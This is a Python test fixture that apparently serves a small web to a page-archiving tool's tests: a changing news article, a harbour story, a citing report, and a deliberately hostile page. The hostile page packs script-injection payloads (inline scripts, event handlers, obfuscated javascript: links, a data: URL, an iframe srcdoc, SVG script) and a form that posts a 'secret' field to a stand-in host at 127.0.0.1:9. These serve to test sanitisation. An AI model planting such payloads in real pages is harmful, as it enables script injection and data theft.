"""The small web the server tests capture: an article that changes, a stable page, a hostile page, an
image, a stylesheet and an HTML report citing them. "Elsewhere" is 127.0.0.1:9 (nothing listens there),
so even a page that escaped the sandbox could not reach beyond this machine. The hostile page's meta
refresh sits in <noscript>: the crawler ignores it, but a browser with scripts off (as in the sandbox)
would follow it if the rewriter left it in."""

from __future__ import annotations

from typing import Any

from tests.server import PNG

EVIL = "http://127.0.0.1:9"
QUOTE = "the river reached one of its lowest levels in recent decades"

ARTICLE_V1 = f"""<!doctype html><html><head><meta charset="utf-8"><title>River at a record low</title>
<link rel="stylesheet" href="/style.css"></head><body><nav><a href="/">Home</a></nav><article>
<h1>River at a record low</h1><img id="photo" src="/img.png" alt="photo">
<p>Officials said on Tuesday that {QUOTE}, according to readings from the monitoring network.
Farmers downstream said that some irrigation channels had run low and that crops were at risk.</p>
<p>The extraction limits announced last year would take time to show an effect, the ministry said,
and the monitoring network would publish weekly readings from now on.</p>
<p>See also <a id="other" href="/other">the harbour story</a> and
<a id="missing" href="{EVIL}/never-archived">a page that was never archived</a>.</p>
</article></body></html>""".encode()

ARTICLE_V2 = ARTICLE_V1.replace(QUOTE.encode(), b"the river was lower than usual this season").replace(
    b"weekly readings", b"monthly readings")

OTHER = b"""<!doctype html><html><head><title>Harbour story</title></head><body><article>
<h1>Harbour story</h1><p>An article about the harbour and its fishing boats, written by a reporter from
the coast, long enough for the extractor to see it as the main text of the page.</p>
<p>The boats go out before dawn and come back at noon with the catch of the day.</p></article>
</body></html>"""

HOSTILE = f"""<!doctype html><html><head><title>Hostile page</title>
<noscript><meta http-equiv="refresh" content="1;url={EVIL}/refreshed"></noscript>
<script>document.title = "PWNED"; fetch("/api/captures", {{method: "POST"}});</script>
<script src="{EVIL}/x.js"></script><link rel="preload" href="{EVIL}/p.js" as="script">
<style>h1 {{ background: url({EVIL}/bg.png); }}</style></head>
<body onload="document.body.setAttribute('data-pwned', '1')"><article><h1>Hostile page</h1>
<p id="status">script did not run</p>
<p>This page tries everything an archived page should not be able to do: scripts, handlers, links to
javascript, a meta refresh, a form posting elsewhere, plugins and frames. None of it may work.</p>
<script>document.getElementById("status").textContent = "SCRIPT RAN";</script>
<p><a id="js" href="javascript:document.getElementById('status').textContent='JS LINK RAN'">js link</a>
<a id="js2" href=" JaVa&#x09;ScRiPt:alert(1)">obfuscated js link</a>
<a id="data" href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">data link</a>
<a id="ok" href="/other">a normal link</a></p>
<img id="img" src="/img.png" onerror="document.getElementById('status').textContent='ONERROR RAN'">
<form id="form" action="{EVIL}/collect" method="post"><input name="secret" value="x">
<button id="submit" formaction="{EVIL}/collect2">Send</button></form>
<iframe id="frame" srcdoc="<script>parent.document.title='PWNED'</script>"></iframe>
<object data="{EVIL}/x.swf"></object><embed src="{EVIL}/y.swf">
<svg><script>document.title = "SVG PWNED"</script>
<a xlink:href="javascript:alert(1)"><text>svg</text></a></svg>
<div id="div" onclick="alert(1)" style="background: url('javascript:alert(1)')">div</div>
</article></body></html>""".encode()

STYLE = b"body { font-family: serif; } h1 { background: url(img.png) no-repeat; }"


def report_html(base: str) -> bytes:
    """An HTML report citing the article (with a quote), the harbour story and the hostile page."""
    return f"""<!doctype html><html><head><title>A report on the river</title></head><body>
<article><h1>A report on the river</h1>
<p>The courier wrote that "{QUOTE}"<sup><a href="#fn1">1</a></sup>. The harbour is described in
<a href="{base}/other">an article about the harbour and its boats</a>. A hostile page was cited too
<sup><a href="#fn2">2</a></sup>.</p>
<ol class="footnotes"><li id="fn1">Staff reporter, "River at a record low", Courier, 2025.
<a href="{base}/article">{base}/article</a></li>
<li id="fn2">Someone, "Hostile page", Web, 2025. <a href="{base}/hostile">{base}/hostile</a></li></ol>
</article></body></html>""".encode()


PAGES: dict[str, Any] = {
    "/article": ARTICLE_V1,
    "/other": OTHER,
    "/hostile": HOSTILE,
    "/style.css": (STYLE, 200, {"Content-Type": "text/css"}),
    "/img.png": (PNG, 200, {"Content-Type": "image/png"}),
}
V2 = {"/article": ARTICLE_V2}
